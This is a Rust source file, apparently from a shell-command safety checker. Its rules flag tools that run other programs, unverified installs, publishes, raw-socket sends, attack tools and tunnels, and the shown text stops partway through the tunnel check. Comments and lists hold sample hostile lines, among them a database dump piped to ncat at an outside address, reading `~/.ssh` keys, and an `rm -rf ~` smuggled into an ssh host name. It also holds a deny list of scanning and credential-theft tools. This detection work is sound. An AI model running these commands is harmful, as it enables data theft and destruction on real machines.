//! Tools' own options that change what they do: the options of npm,
//! pnpm and container engines that come before the subcommand, the
//! options that make a tool run another program, publishing, and starting
//! a container with the host's rights.
//!
//! `rg --pre`, `tar --to-command`, `ssh -o ProxyCommand` and `git clone
//! --upload-pack` each run a program of the caller's choosing; a publish
//! sends code to the world; a privileged container, or one with the
//! host's root or the engine's socket mounted, is root on the host.

use super::cmd::Cmd;
use super::dryrun::dry_run;
use crate::parse::Word;
use crate::parse::programs::{self, has_flag};

/// Options of npm, given before the subcommand, that take a value.
const NPM_GLOBAL_VALUES: &[&str] = &[
    "-w",
    "--workspace",
    "-C",
    "--prefix",
    "--registry",
    "--userconfig",
    "--cache",
    "--loglevel",
    "--otp",
    "--tag",
    "--access",
];

/// Options of pnpm, given before the subcommand, that take a value (its
/// `-w` is `--workspace-root`, a flag).
const PNPM_GLOBAL_VALUES: &[&str] = &[
    "--filter",
    "-F",
    "-C",
    "--dir",
    "--registry",
    "--loglevel",
    "--reporter",
    "--otp",
    "--tag",
    "--access",
];

/// Options of docker, podman and nerdctl, given before the subcommand, that
/// take a value.
const CONTAINER_GLOBAL_VALUES: &[&str] = &[
    "-H",
    "--host",
    "-c",
    "--context",
    "--config",
    "-l",
    "--log-level",
    "--tlscacert",
    "--tlscert",
    "--tlskey",
    "--connection",
    "--url",
    "--identity",
    "--root",
    "--runroot",
    "--storage-driver",
    "-n",
    "--namespace",
    "-a",
    "--address",
];

/// ssh's options (lowercased) whose value is a command it runs.
const SSH_RUNS: &[&str] = &[
    "proxycommand",
    "localcommand",
    "knownhostscommand",
    "remotecommand",
];

/// Whether a command uses an option that makes the tool run another
/// program: `find -exec`, `rg --pre`, `tar --to-command` and its kin, `zip
/// -TT`, `ssh -o ProxyCommand=…`, an `rsync -e` that is not ssh, git's
/// `--upload-pack`/`--receive-pack`/`--exec`/`-x`, and `vim -c '!…'`.
pub(super) fn runs_another_program(c: &Cmd<'_>) -> bool {
    if c.name == "find" {
        // A program that only reads or reports on the files it is handed,
        // named bare, is walked as the command it is, its words judged
        // there (`find ~/.ssh -exec cat {} +` reads keys); any other (a
        // path, `{}` itself, a word known only when it runs) is this
        // option's.
        const READERS: &[&str] = &[
            "wc",
            "cat",
            "head",
            "tail",
            "grep",
            "egrep",
            "fgrep",
            "file",
            "stat",
            "ls",
            "du",
            "md5sum",
            "sha1sum",
            "sha256sum",
            "sha512sum",
            "b2sum",
            "cksum",
            "basename",
            "dirname",
            "realpath",
            "readlink",
            "echo",
            "printf",
            "diff",
            "cmp",
        ];
        let args = c.args();
        let in_project = std::cell::OnceCell::new();
        let in_project = || *in_project.get_or_init(|| finds_in_project(c));
        return args.iter().enumerate().any(|(i, w)| {
            matches!(w.value.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir")
                && !args.get(i + 1).is_some_and(|n| {
                    n.literal
                        && (READERS.contains(&n.value.as_str())
                            // Below the project, any program named bare is
                            // walked as the command it is (`find notebooks
                            // -name '*.ipynb' -exec nbstripout {} +`), but
                            // not one that runs each file found as code.
                            || !n.value.contains('/')
                                && n.value != "{}"
                                && !programs::is_shell(&n.value)
                                && (crate::parse::interpreters::inline_code_flags(
                                    &programs::program_name(&n.value),
                                )
                                .is_none()
                                    || crate::parse::interpreters::only_checks(&n.value, args.get(i + 2)))
                                && in_project())
                })
        });
    }
    if c.is(&["rg", "ripgrep"]) {
        return c.flag(&["--pre"]);
    }
    if c.is(&["tar", "gtar", "bsdtar"]) {
        // `--checkpoint-action=dot` (or `bell`, `echo`, `totals`…) only
        // shows progress; its `exec=` runs a command.
        // (`--checkpoint=N` is an option of its own, not an abbreviation.)
        let args = c.args();
        // Abbreviated as GNU tar takes it: `--checkpoint-a=exec=sh`.
        let action = |name: &str| {
            name.starts_with("--checkpoint-") && "--checkpoint-action".starts_with(name)
        };
        let runs_at_checkpoint = args.iter().enumerate().any(|(i, w)| {
            let value = match w.value.split_once('=') {
                Some((name, v)) if action(name) => Some(v),
                None if action(&w.value) => args.get(i + 1).map(|n| n.value.as_str()),
                _ => None,
            };
            value.is_some_and(|v| {
                !matches!(
                    v.split('=').next(),
                    Some("dot" | "." | "bell" | "echo" | "ttyout" | "totals" | "wait" | "sleep")
                )
            })
        });
        // GNU tar's commands, every word known, are walked as the shell
        // lines they are and judged as such (`--to-command=sha256sum`,
        // `--to-command=sh` runs each member as a script);
        // a compressor it is told to use still asks, unless a plain one.
        // Only a program named alone, or a filter that only reads what
        // tar feeds it (`--to-command='grep -c ERROR'`): another told
        // more (`sh -c x`, `xargs rm`) may hand it to something no
        // reading sees.
        let walked = matches!(c.name.as_str(), "tar" | "gtar")
            && args.iter().all(|w| w.literal)
            && c.option_values(&["--to-command", "--info-script", "--new-volume-script", "-F"])
                .iter()
                .all(|v| {
                    let mut words = v.split_whitespace();
                    words.clone().nth(1).is_none()
                        || words.next().is_some_and(|p| STDIN_FILTERS.contains(&p))
                });
        return runs_at_checkpoint
            || !walked && c.flag(&["--to-command", "--info-script", "--new-volume-script", "-F"])
            || c.flag(&["--use-compress-program", "-I"]) && !compresses_only(args);
    }
    // zip's test command and rsync's far-side program are walked as the
    // shell lines they are, when every word is known and they name no
    // shell or interpreter (which would read the archive as a script).
    if c.name == "zip" {
        return !walked_commands(c, &["-TT", "--unzip-command"]);
    }
    // Ghostscript's sandbox turned off (`-dNOSAFER`, `-dDELAYSAFER`): the
    // document is a PostScript program that may then open `%pipe%` to run
    // commands and write or delete any file.
    if c.is(&[
        "gs",
        "gsc",
        "gsx",
        "ghostscript",
        "gswin64c",
        "gswin32c",
        "ps2pdf",
        "ps2pdfwr",
    ]) {
        return c.values().any(|v| {
            let v = v.strip_prefix("-d").or_else(|| v.strip_prefix("-D"));
            v.is_some_and(|d| {
                let (name, value) = d.split_once('=').unwrap_or((d, "true"));
                matches!(name, "NOSAFER" | "DELAYSAFER") && value != "false"
                    || name == "SAFER" && value == "false"
            })
        });
    }
    // sqlmap runs commands on the server it injects into (`--os-cmd`,
    // `--os-shell`, `--os-pwn`, `--os-bof`) or writes a file there.
    if c.is(&["sqlmap", "sqlmap.py"]) {
        return c.values().any(|v| {
            let name = v.split_once('=').map_or(v, |(n, _)| n);
            matches!(
                name,
                "--os-cmd"
                    | "--os-shell"
                    | "--os-pwn"
                    | "--os-bof"
                    | "--os-smbrelay"
                    | "--file-write"
            )
        });
    }
    // tcpdump runs `-z CMD` on each file it finishes writing; a
    // compressor found on PATH only compresses it (`-z gzip`).
    if c.name == "tcpdump" {
        let run = c.option_values(&["-z"]);
        let compresses = |p: &&str| {
            matches!(
                *p,
                "gzip" | "bzip2" | "xz" | "zstd" | "lz4" | "pigz" | "pbzip2"
            )
        };
        return c.flag(&["-z"]) && (run.is_empty() || !run.iter().all(compresses));
    }
    // go runs `-toolexec` for every compiler and linker step, and `-exec`
    // in place of the binaries `go run` and `go test` build. A program
    // found on PATH is walked as the command it is (`-exec
    // 'qemu-aarch64 -L …'`, `-exec sudo`); one named by a path (a script
    // of anyone's) or known only when the line runs is this option's.
    if c.name == "go" {
        return crate::parse::interpreters::go_exec_values(&c.name, c.args())
            .iter()
            .any(|w| {
                !w.literal
                    || w.value
                        .split_whitespace()
                        .next()
                        .is_none_or(|p| p.contains('/'))
            });
    }
    if c.is(&["ssh", "scp", "sftp"]) {
        return programs::ssh_settings(c.args()).any(|(key, value)| {
            let k = key.to_ascii_lowercase();
            SSH_RUNS.contains(&k.as_str())
                && !(k == "proxycommand" && c.name == "ssh" && plain_proxy(value, c.args()))
                // (`ProxyCommand none`: no proxy, the host reached directly.)
                && !(k == "proxycommand" && value.eq_ignore_ascii_case("none"))
                || k == "permitlocalcommand"
        }) || (c.is(&["scp", "sftp"]) && c.flag(&["-S"]));
    }
    if c.name == "rsync" {
        return !walked_commands(c, &["--rsync-path"])
            || c.option_values(&["-e", "--rsh"]).iter().any(|v| {
                let prog = v.split_whitespace().next().unwrap_or("");
                // ssh itself may be told to run a program
                // (`-e 'ssh -o ProxyCommand="…"'`).
                programs::program_name(prog) != "ssh"
                    || SSH_RUNS
                        .iter()
                        .any(|k| crate::util::contains_ignore_case(v, k))
            });
    }
    if let Some((sub, rest)) = c.git() {
        let opts: &[&str] = match sub {
            "clone" => &["--upload-pack", "-u", "--template"],
            "fetch" | "pull" | "ls-remote" => &["--upload-pack"],
            "push" => &["--receive-pack", "--exec"],
            "archive" => &["--exec"],
            "difftool" | "mergetool" => &["-x", "--extcmd", "-t", "--tool"],
            _ => &[],
        };
        return has_flag(rest, opts);
    }
    // A pager of the caller's choosing (`man -P 'sh -c …'`, `git
    // --paginate` reads it from the config): walked as the shell line it
    // is when every word is known and it names no shell or interpreter
    // (`man -P cat tar`).
    if c.name == "man" {
        const PAGERS: &[&str] = &["-P", "--pager", "-H", "--html"];
        // Inside a cluster (`-aP 'sh -c x'`) the value is not read out.
        let clustered = c.args().iter().any(|w| {
            let v = w.value.as_str();
            !v.starts_with("--")
                && !v.starts_with("-P")
                && !v.starts_with("-H")
                && v.starts_with('-')
                && v.contains(['P', 'H'])
        });
        return c.flag(PAGERS) && (clustered || !walked_commands(c, PAGERS));
    }
    if c.is(&["vim", "vi", "nvim", "ex"]) {
        return c
            .option_values(&["-c", "--cmd"])
            .iter()
            .any(|v| v.starts_with('!') || v.contains("system("));
    }
    false
}

/// Software installed or updated with its signature check turned off,
/// whatever the package tool (`dnf install --nogpgcheck`, `apt-get
/// install --allow-unauthenticated`, `sa-update --nogpg`, `snap install
/// --dangerous`, `apk add --allow-untrusted`, `flatpak install
/// --no-gpg-verify`): whoever sits between the machine and the archive
/// chooses what runs. The threat: a line steered into fetching a
/// tampered package, with the one check that would refuse it switched
/// off. A rehearsal installs nothing.
pub(super) fn installs_unverified(c: &Cmd<'_>) -> bool {
    // Asked of every word of every command: a `match` on the long
    // option's name, and a lowercased copy only of what ends in `=true`.
    let unchecked = c.args().iter().any(|w| {
        let v = w.value.as_str();
        match v.strip_prefix("--") {
            // Spelled out: `--all` is no abbreviation of `--allow-untrusted`.
            Some(long) => {
                matches!(
                    long.split('=').next().unwrap_or_default(),
                    "nogpgcheck"
                        | "no-gpgcheck"
                        | "no-gpg-checks"
                        | "allow-unauthenticated"
                        | "allow-insecure-repositories"
                        | "allow-downgrades-unauthenticated"
                        | "allow-untrusted"
                        | "nogpg"
                        | "no-gpg-verify"
                        | "nosignature"
                        | "nodigest"
                        | "force-bad-verify"
                        | "dangerous"
                        | "skip-signature-check"
                        | "no-verify-signature"
                        | "insecure-skip-signature-check"
                ) || matches!(long, "setopt=gpgcheck=0" | "setopt=gpgcheck=false")
            }
            // apt's `-o APT::Get::AllowUnauthenticated=true` (not a search
            // for it: only an option's value is so spelled).
            None => {
                v.ends_with("=true") && {
                    let v = v.to_ascii_lowercase();
                    v.contains("::allowunauthenticated=")
                        || v.contains("::allowinsecurerepositories=")
                }
            }
        }
    });
    unchecked && !super::dryrun::rehearses_as(&c.name, c.args())
}

/// Whether a command publishes a package, image or release: `npm
/// publish`, `cargo publish`, `twine upload`, `docker push`, `gh release
/// create`, … past the tool's own leading options, and not as a
/// rehearsal (`--dry-run`).
pub(super) fn publishes(c: &Cmd<'_>) -> bool {
    // Every case below is one of these tools: any other command is
    // settled before its words are read.
    // A `match`, not a list compared name by name.
    if !matches!(
        c.name.as_str(),
        "npm"
            | "pnpm"
            | "yarn"
            | "bun"
            | "cargo"
            | "twine"
            | "poetry"
            | "flit"
            | "uv"
            | "hatch"
            | "pdm"
            | "vsce"
            | "ovsx"
            | "gem"
            | "docker-compose"
            | "podman-compose"
            | "docker"
            | "podman"
            | "buildah"
            | "nerdctl"
            | "gh"
            | "mvn"
            | "gradle"
            | "./gradlew"
            | "gradlew"
            | "sbt"
            | "lein"
            | "dotnet"
            | "helm"
            | "skopeo"
            | "crane"
            | "regctl"
            | "oras"
            | "dput"
            | "dupload"
            | "copr-cli"
            | "osc"
            | "fedpkg"
            | "centpkg"
            | "rhpkg"
            | "aptly"
    ) {
        return false;
    }
    // The tool's own options come before the subcommand; stepping
    // over their values keeps `npm -w pkg publish` a publish.
    let global: &[&str] = match c.name.as_str() {
        "npm" => NPM_GLOBAL_VALUES,
        "pnpm" => PNPM_GLOBAL_VALUES,
        "yarn" | "bun" => &["--cwd"],
        "cargo" => &["-Z", "--config", "-C", "--color"],
        "regctl" => &["-v", "--verbosity", "--logopt", "--host", "--user-agent"],
        "docker" | "podman" | "buildah" | "nerdctl" => CONTAINER_GLOBAL_VALUES,
        _ => &[],
    };
    let mut ops = c.subcommand_operands(global);
    // `cargo +nightly publish`: a toolchain before the subcommand.
    if c.name == "cargo" && ops.first().is_some_and(|w| w.value.starts_with('+')) {
        ops.remove(0);
    }
    // `yarn workspace NAME …` runs the rest in that workspace.
    if c.name == "yarn" && ops.first().is_some_and(|w| w.value == "workspace") {
        ops.drain(..ops.len().min(2));
    }
    let sub = ops.first().map(|w| w.value.as_str()).unwrap_or("");
    let second = ops.get(1).map(|w| w.value.as_str()).unwrap_or("");
    let third = ops.get(2).map(|w| w.value.as_str()).unwrap_or("");
    // A rehearsal publishes nothing; npm's `--dry-run` is not heard by its
    // registry's tags, which move at once.
    let tags = c.is(&["npm", "pnpm", "yarn", "bun"]) && matches!(sub, "dist-tag" | "dist-tags");
    if dry_run(&c.name, c.args(), false) && !tags
        || c.is(&["gradle", "gradlew"]) && super::dryrun::rehearses_as("gradle", c.args())
    {
        return false;
    }
    // A release tool run as a package's program (`pnpm changeset
    // publish`, `yarn lerna publish`, `pnpm semantic-release`).
    let release_tool = c.is(&["pnpm", "yarn", "bun"])
        && (matches!(sub, "changeset" | "changesets" | "lerna" | "nx")
            && ops.iter().skip(1).any(|w| w.value == "publish")
            || matches!(sub, "semantic-release" | "release-it"));
    release_tool
        || (c.is(&["npm", "pnpm", "yarn", "bun"])
            && (matches!(sub, "publish" | "unpublish" | "deprecate")
            // `npm dist-tag ls` lists the tags; `add` and `rm` move them.
            || tags && !matches!(second, "ls" | "list")))
        || (c.name == "yarn"
            && sub == "npm"
            && (second == "publish" || second == "tag" && matches!(third, "add" | "remove")))
        || (c.name == "cargo"
            && (matches!(sub, "publish" | "yank")
                // `cargo owner --list` only names them.
                || sub == "owner"
                    && (!c.flag(&["--list", "-l"]) || c.flag(&["--add", "-a", "--remove", "-r"]))))
        || (c.name == "twine" && sub == "upload")
        || (c.is(&["poetry", "flit", "uv", "hatch", "pdm", "vsce", "ovsx"]) && sub == "publish")
        || (c.name == "gem" && matches!(sub, "push" | "yank"))
        || (c.is(&["docker", "podman", "buildah", "nerdctl"])
            && (sub == "push"
                || (matches!(sub, "image" | "compose") && second == "push")
                || (sub == "buildx" && c.flag(&["--push"]))))
        || (c.is(&["docker-compose", "podman-compose"]) && sub == "push")
        || (c.name == "gh"
            && sub == "release"
            && matches!(second, "create" | "upload" | "edit" | "delete"))
        || (c.is(&["mvn", "gradle", "./gradlew", "gradlew", "sbt", "lein"])
            // sbt takes several tasks in one word (`"+publishSigned;
            // sonatypeBundleRelease"`), `+` running each for every version;
            // one that asks about a task names it (`"help publish"`,
            // `"inspect publish"`); `show TASK` runs the task to show
            // its result.
            && ops.iter().filter(|w| !names_a_task_only(c, w)).any(|w| {
                w.value.split(';').any(|task| {
                    let mut t = task.split_whitespace().peekable();
                    t.next_if(|f| matches!(*f, "help" | "inspect")).is_none()
                        && t.any(|t| build_task_publishes(t.trim_start_matches('+')))
                })
            })
            // The Maven release plugin's rehearsal of a release's
            // preparation (`release:prepare -DdryRun=true`); a deploy or
            // `release:perform` beside it still publishes.
            && !(c.name == "mvn"
                && c.values().any(|v| v.eq_ignore_ascii_case("-DdryRun=true"))
                && ops
                    .iter()
                    .filter(|w| build_task_publishes(&w.value))
                    .all(|w| matches!(w.value.as_str(), "release:prepare" | "release:branch"))))
        || (c.name == "dotnet" && sub == "nuget" && second == "push")
        || (c.name == "helm" && sub == "push")
        || copies_image_to_a_registry(c, sub, &ops)
        || uploads_to_a_distribution(c, sub)
}

/// Whether a distribution's packaging tool sends a package to its build
/// service or archive, where it is built and published to users: a
/// Debian upload (`dput ppa:acme/stable x.changes`; `-s` only simulates),
/// a Copr or Open Build Service build or commit, a Fedora dist-git push
/// or build, an aptly repository published.
fn uploads_to_a_distribution(c: &Cmd<'_>, sub: &str) -> bool {
    match c.name.as_str() {
        "dput" | "dupload" => !c.flag(&["-s", "--simulate", "-n", "--no"]),
        "copr-cli" => sub.starts_with("build") || matches!(sub, "delete" | "modify"),
        "osc" => matches!(
            sub,
            "commit"
                | "ci"
                | "checkin"
                | "submitrequest"
                | "sr"
                | "submitreq"
                | "release"
                | "copypac"
        ),
        "fedpkg" | "centpkg" | "rhpkg" => {
            matches!(
                sub,
                "push" | "build" | "upload" | "new-sources" | "update" | "chain-build"
            )
        }
        "aptly" => sub == "publish",
        _ => false,
    }
}

/// Whether an image tool copies or pushes an image into a registry:
/// skopeo's `copy`/`sync` to a `docker://` destination (its last word),
/// crane's `push`/`copy`/`tag`, regctl's `image copy`, oras's `push`.
fn copies_image_to_a_registry(c: &Cmd<'_>, sub: &str, ops: &[&crate::parse::Word]) -> bool {
    let second = ops.get(1).map(|w| w.value.as_str()).unwrap_or("");
    c.name == "skopeo"
        && (sub == "copy" && ops.last().is_some_and(|w| w.value.starts_with("docker://"))
            || sub == "sync" && c.option_values(&["--dest", "-d"]).contains(&"docker"))
        || c.name == "crane" && matches!(sub, "push" | "copy" | "cp" | "tag" | "append" | "mutate")
        || c.name == "regctl" && sub == "image" && matches!(second, "copy" | "mod")
        || c.name == "oras" && matches!(sub, "push" | "cp" | "copy" | "attach" | "tag")
}

/// Whether a build tool's word is an option's task name, not a task run:
/// Gradle's task list of a group (`gradle tasks --group publishing`), a
/// task's help (`--task publish`), a task left out (`-x publish`).
fn names_a_task_only(c: &Cmd<'_>, word: &crate::parse::Word) -> bool {
    c.args().windows(2).any(|pair| {
        pair.get(1).is_some_and(|w| std::ptr::eq(w, word))
            && pair.first().is_some_and(|o| {
                matches!(
                    o.value.as_str(),
                    "--group" | "--task" | "-x" | "--exclude-task"
                )
            })
    })
}

/// Whether a build tool's task or goal publishes what it built: maven's
/// `deploy` (also `deploy:deploy-file`, `release:perform`), gradle's
/// `publish` and every `publish…To…` task (`:lib:publishPlugins`,
/// `publishToMavenCentral`), a mod's upload to its hosts (`modrinth`,
/// `curseforge`), sbt's `publish`, leiningen's `deploy` — but not a
/// publish into this machine's own cache (`publishToMavenLocal`,
/// `publishLocal`, `install`).
fn build_task_publishes(task: &str) -> bool {
    let name = task.rsplit(':').next().unwrap_or(task);
    let goal = task.split(':').next().unwrap_or(task);
    if name.ends_with("Local") || name.ends_with("MavenLocal") {
        return false;
    }
    // Gradle Play Publisher's promotions to a track (`promoteArtifact`,
    // `promoteReleaseArtifact --promote-track production`), Firebase
    // App Distribution's uploads to testers.
    name.starts_with("publish")
        || name.starts_with("promote")
        || name.starts_with("appDistributionUpload")
        || name.starts_with("modrinth")
        || name.starts_with("curseforge")
        || matches!(
            name,
            "deploy" | "deploy-file" | "uploadArchives" | "perform"
        )
        || matches!(goal, "deploy" | "release" | "nexus-staging")
}

/// Whether a command sends another machine what it reads over a raw
/// connection: a netcat or telnet given stdin (`mysqldump --all-databases
/// | ncat 198.51.100.7 9000`, `nc host 9000 < data.csv`), socat joining a
/// file or stdin to a remote address. What leaves is no protocol a rule can
/// read (a bash `/dev/tcp/…` redirect is `net.reverse_shell`'s). A port
/// probe (`nc -z`) sends nothing; loopback is this machine.
pub(super) fn sends_raw(c: &Cmd<'_>) -> bool {
    let netcat = c.is(super::cmd::NETCATS) || c.is(&["telnet", "pwncat"]);
    if !netcat && c.name != "socat" {
        return false;
    }
    // Fed through a pipe, a heredoc, a here-string or a `<` redirect: the
    // walk records each as stdin text, known or only known when it runs.
    let fed = c.command.stdin_text.is_some() || c.command.stdin_dynamic;
    if netcat {
        // (`-U`: a Unix socket, on this machine.)
        return fed
            && !c.flag(&["-z", "-l", "--listen", "-U", "--unixsock"])
            && c.operands()
                .iter()
                .find(|w| !w.value.bytes().all(|b| b.is_ascii_digit()))
                .is_some_and(|h| !super::cmd::is_loopback(&h.value));
    }
    // socat's two addresses: one reaching out (`TCP:host:port`), the
    // other a file (`OPEN:dump.sql`) or a fed stdin (`-`).
    let addresses = c.operands();
    let remote = |a: &str| {
        let lower = a.to_ascii_lowercase();
        let Some((kind, rest)) = lower.split_once(':') else {
            return false;
        };
        ["tcp", "udp", "openssl", "sctp"]
            .iter()
            .any(|k| kind.starts_with(k))
            && !kind.contains("listen")
            && !super::cmd::is_loopback(rest.split(',').next().unwrap_or(rest))
    };
    let file = |a: &str| {
        let lower = a.to_ascii_lowercase();
        ["open:", "file:", "gopen:"]
            .iter()
            .any(|p| lower.starts_with(p))
    };
    addresses.iter().any(|a| remote(&a.value)) && (fed || addresses.iter().any(|a| file(&a.value)))
}

/// Tools made to scan, brute-force or break into other machines. Asked
/// of every command: a `match`, which settles most by length.
fn attack_tool(name: &str) -> bool {
    matches!(
        name,
        "nmap"
            | "masscan"
            | "zmap"
            | "rustscan"
            | "unicornscan"
            | "nikto"
            | "nuclei"
            | "sqlmap"
            | "sqlmap.py"
            | "hydra"
            // SIPVicious's scanner, extension finder and password cracker.
            | "svmap"
            | "svwar"
            | "svcrack"
            | "sipvicious_svmap"
            | "sipvicious_svwar"
            | "sipvicious_svcrack"
            | "medusa"
            | "ncrack"
            | "patator"
            | "crowbar"
            | "wpscan"
            | "joomscan"
            | "gobuster"
            | "ffuf"
            | "dirb"
            | "dirsearch"
            | "feroxbuster"
            | "wfuzz"
            | "kr"
            | "kiterunner"
            | "dnsmap"
            | "dnsenum"
            | "dnsrecon"
            | "fierce"
            | "massdns"
            | "enum4linux"
            | "enum4linux-ng"
            | "crackmapexec"
            | "cme"
            | "nxc"
            | "netexec"
            | "responder"
            | "bettercap"
            | "ettercap"
            | "arpspoof"
            | "mitm6"
            | "aireplay-ng"
            | "mdk3"
            | "mdk4"
            | "msfconsole"
            | "evil-winrm"
            | "kerbrute"
            | "smbmap"
            | "onesixtyone"
            | "commix"
            | "xsstrike"
    )
}

/// Impacket's tools, by their script names (`secretsdump.py`) or as
/// packaged (`impacket-secretsdump`).
const IMPACKET: &[&str] = &[
    "psexec",
    "smbexec",
    "wmiexec",
    "dcomexec",
    "atexec",
    "secretsdump",
    "getuserspns",
    "getnpusers",
    "gettgt",
    "getst",
    "rpcdump",
    "samrdump",
    "lookupsid",
    "ntlmrelayx",
    "smbclient",
    "mssqlclient",
    "sambapipe",
    "ticketer",
    "addcomputer",
    "dacledit",
    "owneredit",
    "rbcd",
    "smbserver",
    "getadusers",
    "findDelegation",
];

/// Whether a command runs a tool made to scan, brute-force or break into
/// other machines (`nmap -sV scanme.example.com`, `hydra -l admin -P
/// pw.txt ssh://10.0.0.5`, `secretsdump.py corp/admin:pw@10.0.0.5`)
/// at one that is not this machine: every target it names on loopback
/// (`nikto -h http://127.0.0.1:8080`) is a check of one's own service.
pub(super) fn attacks_host(c: &Cmd<'_>) -> bool {
    let impacket = || {
        let base = c
            .name
            .strip_suffix(".py")
            .or_else(|| c.name.strip_prefix("impacket-"));
        base.is_some_and(|b| IMPACKET.iter().any(|t| t.eq_ignore_ascii_case(b)))
    };
    if !attack_tool(&c.name) && !impacket() {
        return false;
    }
    // nmap's list scan only names the targets; it sends them nothing.
    if c.name == "nmap" && c.values().any(|v| v == "-sL") {
        return false;
    }
    let mut hosts = c.values().filter_map(target_host).peekable();
    hosts.peek().is_none() || !hosts.all(super::cmd::is_loopback)
}

/// The machine a word names, for [`attacks_host`]: a URL's host, the host
/// after `user@`, an address or network, `localhost`, or a name with
/// dots that is not a file's (`scanme.example.com`, not `pw.txt`).
fn target_host(v: &str) -> Option<&str> {
    let v = match v.split_once('=') {
        Some((option, value)) if option.starts_with('-') => value,
        _ => v,
    };
    let v = v.split_once("://").map_or(v, |(_, rest)| rest);
    let v = v.rsplit_once('@').map_or(v, |(_, host)| host);
    let host = v.split('/').next().unwrap_or(v);
    let name = host.rsplit_once(':').map_or(host, |(h, port)| {
        if port.bytes().all(|b| b.is_ascii_digit()) {
            h
        } else {
            host
        }
    });
    const FILES: &[&str] = &[
        "txt", "lst", "list", "xml", "json", "csv", "nse", "yaml", "yml", "conf", "log", "gz",
        "zip", "pcap", "html", "py", "sh", "rc", "out", "ini", "req",
    ];
    let last = name.rsplit('.').next().unwrap_or("");
    let address = !name.is_empty()
        && name.bytes().all(|b| b.is_ascii_digit() || b == b'.')
        && name.contains('.');
    let named = name.contains('.')
        && last.len() >= 2
        && last.bytes().all(|b| b.is_ascii_alphabetic())
        && !FILES.contains(&last.to_ascii_lowercase().as_str())
        && name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-');
    (address
        || named
        || name.eq_ignore_ascii_case("localhost")
        || name == "::1"
        || host.starts_with('['))
    .then_some(host)
}

/// Whether every command the options `names` give (none counts) is
/// walked as a shell line: every word of the line known, and each
/// command's program neither a shell nor an interpreter of code.
fn walked_commands(c: &Cmd<'_>, names: &[&str]) -> bool {
    c.args().iter().all(|w| w.literal)
        && c.option_values(names).iter().all(|v| {
            let program = programs::program_name(v.split_whitespace().next().unwrap_or(""));
            !program.is_empty()
                && !programs::is_shell(&program)
                && crate::parse::interpreters::inline_code_flags(&program).is_none()
        })
}

/// Whether ssh's `ProxyCommand` only hops through a jump host (`ssh -W
/// %h:%p bastion`, `exec` before it), as `-J` does: ssh named bare, whose
/// words are options, `%` tokens and host names, with no command of its
/// own inside (`ssh -o ProxyCommand=…` again). Other relays (netcat's
/// kin) stay this rule's: they are also the raw-socket tools. ssh puts the host and user into the command
/// given to the shell as written (`%h`, `%r`), so the destination and
/// `-l` user must be plain names: `ssh -o ProxyCommand='nc %h %p'
/// 'x;rm -rf ~'` runs the delete on older ssh.
fn plain_proxy(value: &str, args: &[Word]) -> bool {
    const RELAYS: &[&str] = &["ssh"];
    let plain = |w: &str| {
        !w.is_empty()
            && w.bytes()
                .all(|b| b.is_ascii_alphanumeric() || b".-_@:%[]".contains(&b))
    };
    let mut words = value.split_whitespace().peekable();
    words.next_if_eq(&"exec");
    let relays = words.next().is_some_and(|p| RELAYS.contains(&p))
        && words.all(|w| w.starts_with('-') && !w.contains(['=', '/', '~', '$', '`']) || plain(w))
        && !SSH_RUNS
            .iter()
            .any(|k| value.to_ascii_lowercase().contains(k));
    // ssh's options that take a value; the first other word is the host.
    const VALUED: &str = "BbcDEeFIiJLlmOoPpQRSWw";
    let mut destination = None;
    let mut users = Vec::new();
    let mut it = args.iter().map(|w| w.value.as_str());
    while let Some(v) = it.next() {
        match v.strip_prefix('-') {
            Some(cluster) if !cluster.is_empty() => {
                if let Some(at) = cluster.find(|ch| VALUED.contains(ch)) {
                    let rest = &cluster[at + 1..];
                    let value = if rest.is_empty() {
                        it.next().unwrap_or("")
                    } else {
                        rest
                    };
                    if cluster[at..].starts_with('l') {
                        users.push(value);
                    }
                }
            }
            _ => {
                destination = Some(v);
                break;
            }
        }
    }
    relays && destination.is_some_and(plain) && users.into_iter().all(plain)
}

/// Whether every program tar is told to compress with (`-I`,
/// `--use-compress-program`) is a compressor named bare with only options
/// of its own (`tar -I 'zstd -T0' -cf d.tar.zst data`): it reads the
/// archive's bytes and runs nothing. Any other program, a path, a file
/// named in its words, or a form of the option not read here (inside a
/// cluster: `-cIf`) is a program tar runs.
fn compresses_only(args: &[Word]) -> bool {
    const COMPRESSORS: &[&str] = &[
        "gzip", "pigz", "unpigz", "bzip2", "pbzip2", "lbzip2", "xz", "pixz", "zstd", "pzstd",
        "lz4", "lzip", "plzip", "lzop", "lzma", "brotli",
    ];
    let clustered = args.iter().take_while(|w| w.value != "--").any(|w| {
        let v = w.value.as_str();
        !v.starts_with("--") && !v.starts_with("-I") && v.starts_with('-') && v.contains('I')
    });
    let values = programs::option_values(args, &["-I", "--use-compress-program"]);
    !clustered
        && !values.is_empty()
        && values.iter().all(|v| {
            let mut words = v.split_whitespace();
            words.next().is_some_and(|p| COMPRESSORS.contains(&p))
                && words.all(|o| o.starts_with('-') && !o.contains(['/', '~', '$', '`']))
        })
}

/// Whether every folder `find` starts from is below the project's folder
/// (`find notebooks …`, `find . …` from a project that is neither the home
/// folder nor `/`), named exactly, and no link is followed out of it
/// (`-L`, `-H`, `-follow`).
fn finds_in_project(c: &Cmd<'_>) -> bool {
    let cwd = c.ctx.cwd.to_string_lossy();
    let home = c.ctx.home.as_deref().map(|h| h.to_string_lossy());
    if cwd == "/" || home.as_deref() == Some(&*cwd) {
        return false;
    }
    let args = c.args();
    if args
        .iter()
        .any(|w| matches!(w.value.as_str(), "-L" | "-H" | "-follow"))
    {
        return false;
    }
    let mut points = args
        .iter()
        .skip_while(|w| w.value == "-P")
        .take_while(|w| !w.value.starts_with(['-', '(', '!']))
        .peekable();
    // No folder named, or options of find's own before them: not read.
    points.peek().is_some()
        && points.all(|w| {
            let r = c.ctx.resolve(&w.value);
            w.literal
                && !w.glob
                && r.strip_prefix(&*cwd)
                    .is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
        })
}

/// Whether a command opens a tunnel by which another machine reaches this
/// one: ssh's remote forward (`ssh -NR 2222:localhost:22 relay`, `-o
/// RemoteForward=…`), or a tunnel service handed a local port (`ngrok tcp
/// 22`, `cloudflared tunnel --url …`, `bore local 5432`, `tailscale funnel
/// 8080`: to the whole internet). A reverse shell's way in without a
/// listener of its own.
pub(super) fn opens_tunnel(c: &Cmd<'_>) -> bool {
    if !matches!(
        c.name.as_str(),
        "ssh" | "autossh" | "ngrok" | "cloudflared" | "bore" | "lt" | "localtunnel" | "tailscale"
    ) {
        return false;
    }
